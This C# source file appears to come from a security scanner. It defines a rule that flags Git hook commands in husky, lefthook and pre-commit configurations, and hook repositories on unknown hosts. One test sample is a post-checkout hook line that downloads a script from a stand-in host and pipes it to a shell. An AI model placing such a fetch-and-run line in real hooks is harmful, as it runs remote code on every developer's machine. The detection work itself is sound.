using ApprovalGuard.Detection.AgentConfig.Commands;
using ApprovalGuard.Detection.AgentConfig.Reading;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Detection.AgentConfig.Examiners;

/// <summary>Commands that run when somebody commits, pushes or checks out: husky, lefthook, pre-commit, a folder of hooks.</summary>
internal sealed class GitHookScripts : IExaminer
{
    private static readonly RuleInfo Rule = new()
    {
        Id = "git-hook-script",
        Category = Category.AgentConfig,
        Severity = Severity.Low,
        Title = "command of a Git hook",
        Why = "It runs on the machine of everybody who commits or checks out.",
        Do = "Read the command, and what it calls.",
        Reference = "https://git-scm.com/docs/githooks",
        Positives =
        [
            new("npx lint-staged\n", ".husky/pre-commit"),
            new("curl -s https://x.example/i | sh\n", ".husky/post-checkout"),
            new("pre-commit:\n  commands:\n    lint:\n      run: npm run lint\n", "lefthook.yml"),
            new("repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: ./x.sh\n        language: system\n", ".pre-commit-config.yaml"),
        ],
        Negatives = [new("# a comment\n\n", ".husky/pre-commit"), new("exclude: ^docs/\n", ".pre-commit-config.yaml"), new("The hooks of this folder.\n", ".husky/README.md")],
    };

    private static readonly string[] KnownHosts = ["github.com", "gitlab.com", "codeberg.org", "bitbucket.org"];

    /// <inheritdoc/>
    public IReadOnlyList<RuleInfo> Rules => [Rule];

    /// <inheritdoc/>
    public IEnumerable<Remark> Look(ConfigFile file) => file.Kind != ConfigKind.GitHooks ? [] : file.Format == ConfigFormat.Lines ? InScript(file) : InSettings(file);

    private static IEnumerable<Remark> InScript(ConfigFile file)
    {
        foreach (var line in ScriptLine.AllIn(file.Content.Text))
        {
            yield return CommandRisk.OfScriptLine(line.Text) is { } risk
                ? Remark.Grave(Rule, line.ToSetting(), Severity.High, $"Git hook; it {risk}")
                : Remark.New(Rule, line.ToSetting(), Severity.Low, "command of a Git hook");
        }
    }

    private static IEnumerable<Remark> InSettings(ConfigFile file)
    {
        foreach (var setting in file.Content.Settings)
        {
            if (setting.Value is not { } value)
            {
                continue;
            }

            if (setting.Name is "run" or "entry" or "pre-commit" or "pre-push" or "commit-msg" or "post-checkout" or "post-merge")
            {
                yield return CommandRisk.OfScriptLine(value) is { } risk
                    ? Remark.Grave(Rule, setting, Severity.High, $"Git hook; it {risk}")
                    : Remark.New(Rule, setting, Severity.Low, "command of a Git hook");
            }
            else if (setting.Name is "repo" or "git_url" && Hosts.Of(value) is { } host && (!Hosts.IsWithin(host, KnownHosts) || Hosts.IsPlain(value)))
            {
                yield return Remark.Ordinary(Rule, setting, Hosts.IsPlain(value) ? Severity.High : Severity.Medium, $"Git hooks from {host}");
            }
            else if (setting.Name is "repo" && value is not "local" and not "meta")
            {
                yield return Remark.New(Rule, setting, Severity.Low, "Git hooks from another repository");
            }
        }
    }
}
